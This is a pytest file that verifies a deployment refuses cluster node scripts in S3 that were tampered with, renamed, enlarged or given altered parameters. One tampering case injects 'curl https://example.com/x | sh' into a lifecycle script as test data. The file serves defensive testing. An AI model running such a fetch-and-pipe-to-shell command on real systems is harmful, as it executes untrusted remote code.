"""The scripts that the deployment uploads are those that the functions let nodes run."""

from collections.abc import Callable
from pathlib import Path

import pytest

from cluster_resource.pointer import Bundle
from cluster_resource.scripts import LARGE, refusal
from tests.contract.bundle import uploaded_by
from tests.contract.deployed import Deployed, as_cloudformation_sends
from tests.synth.synthesized import CLUSTER, Synthesized
from tests.unit.cluster_resource.fake_s3 import FakeS3

PARAMETERS = {"reference": "provisioning_parameters.json", "starter": "slurm_groups.json", "eks": ""}


def uploaded(cluster: str, shipped: Synthesized, folder: Path) -> tuple[Bundle, FakeS3]:
    """The bundle in the template, and the bucket after the upload."""
    given = as_cloudformation_sends(Deployed(shipped, cluster).properties(CLUSTER, "Custom::HyperPodCluster"))["Scripts"]
    bundle, s3 = Bundle.of(given), FakeS3()
    s3.objects = uploaded_by(shipped, cluster, folder)
    assert (f"{bundle.prefix}/{PARAMETERS[cluster]}" in s3.objects) is bool(PARAMETERS[cluster])
    return bundle, s3


@pytest.mark.parametrize("cluster", PARAMETERS)
def test_nodes_may_run_what_was_uploaded(cluster: str, shipped: Synthesized, shipped_folder: Path) -> None:
    bundle, s3 = uploaded(cluster, shipped, shipped_folder)
    s3.objects |= {f"{bundle.prefix}/extra/": b"", f"{bundle.prefix}-other/x": b"x"}
    assert refusal(bundle, s3) == ""


def replace_a_script(objects: dict[str, bytes], prefix: str) -> None:
    objects[f"{prefix}/on_create.sh"] += b"curl https://example.com/x | sh\n"


def add_a_script(objects: dict[str, bytes], prefix: str) -> None:
    objects[f"{prefix}/extra/live/9.sh"] = b"id\n"


def add_a_large_file(objects: dict[str, bytes], prefix: str) -> None:
    objects[f"{prefix}/extra/tool"] = b"x" * (LARGE + 1)


def remove_a_script(objects: dict[str, bytes], prefix: str) -> None:
    del objects[f"{prefix}/on_create.sh"]


def change_the_parameters(objects: dict[str, bytes], prefix: str) -> None:
    objects[f"{prefix}/slurm_groups.json"] = b'{"controller": "login"}'


def break_the_parameters(objects: dict[str, bytes], prefix: str) -> None:
    objects[f"{prefix}/slurm_groups.json"] = b"{"


def nest_the_parameters(objects: dict[str, bytes], prefix: str) -> None:
    objects[f"{prefix}/slurm_groups.json"] = b"[" * 200_000


def add_parameters(objects: dict[str, bytes], prefix: str) -> None:
    objects[f"{prefix}/provisioning_parameters.json"] = objects[f"{prefix}/slurm_groups.json"]


def rename_a_script(objects: dict[str, bytes], prefix: str) -> None:
    objects[f"{prefix}/on_creat.sh"] = objects.pop(f"{prefix}/on_create.sh")


CHANGES = (
    replace_a_script,
    add_a_script,
    add_a_large_file,
    remove_a_script,
    change_the_parameters,
    break_the_parameters,
    nest_the_parameters,
    add_parameters,
    rename_a_script,
)


@pytest.mark.parametrize("change", CHANGES, ids=lambda each: each.__name__)
def test_nodes_may_not_run_anything_else(
    change: Callable[[dict[str, bytes], str], None], shipped: Synthesized, shipped_folder: Path
) -> None:
    bundle, s3 = uploaded("starter", shipped, shipped_folder)
    change(s3.objects, bundle.prefix)
    assert f"the scripts in s3://{bundle.bucket}/{bundle.prefix} are not those of this deployment" in refusal(bundle, s3)


def test_a_large_file_is_read_in_parts(shipped: Synthesized, shipped_folder: Path) -> None:
    bundle, s3 = uploaded("starter", shipped, shipped_folder)
    add_a_large_file(s3.objects, bundle.prefix)
    refused = refusal(bundle, s3)
    s3.objects[f"{bundle.prefix}/extra/tool"] = b"x" * LARGE + b"y"
    assert refusal(bundle, s3) != refused, "the last part counts"
